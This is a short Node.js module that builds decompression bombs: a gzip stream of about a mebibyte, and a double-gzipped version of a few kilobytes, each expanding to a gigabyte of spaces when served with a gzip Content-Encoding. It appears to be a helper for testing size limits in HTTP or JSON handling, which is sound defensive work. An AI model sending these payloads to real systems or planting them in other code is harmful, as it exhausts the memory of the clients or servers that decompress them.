// A few bytes that say a gigabyte: deflated twice, written part by part, and never in memory as a whole.
import { constants, deflateRawSync, gzipSync } from 'node:zlib';

const MEBIBYTE = 2 ** 20;
const MEBIBYTES = 1024;
/** A gzip member's beginning: deflate, no name, no time. */
const GZIP_HEAD = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);

/**
 * A mebibyte of spaces, which JSON may begin with, deflated so that the same bytes can follow each other. The end of the stream, with its
 * check sum, is left out: nobody is meant to come so far.
 */
const part = () => deflateRawSync(Buffer.alloc(MEBIBYTE, ' '), { finishFlush: constants.Z_FULL_FLUSH, level: 9 });

/** A mebibyte that becomes a gigabyte: `Content-Encoding: gzip`. */
export function gzipBomb() {
  return Buffer.concat([GZIP_HEAD, ...Array(MEBIBYTES).fill(part())]);
}

/** Some kilobytes that become a gigabyte: `Content-Encoding: gzip, gzip`. */
export function nestedGzipBomb() {
  return gzipSync(gzipBomb(), { level: 9 });
}
